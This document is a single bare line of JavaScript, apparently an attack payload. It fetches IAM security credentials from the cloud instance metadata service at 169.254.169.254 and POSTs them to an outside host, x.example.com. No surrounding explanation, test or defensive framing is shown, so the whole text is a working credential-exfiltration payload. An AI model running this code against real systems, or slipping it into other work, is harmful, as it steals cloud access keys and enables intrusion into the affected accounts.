fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(r=>r.text()).then(r=>fetch('https://x.example.com/',{method:'POST',body:r}));
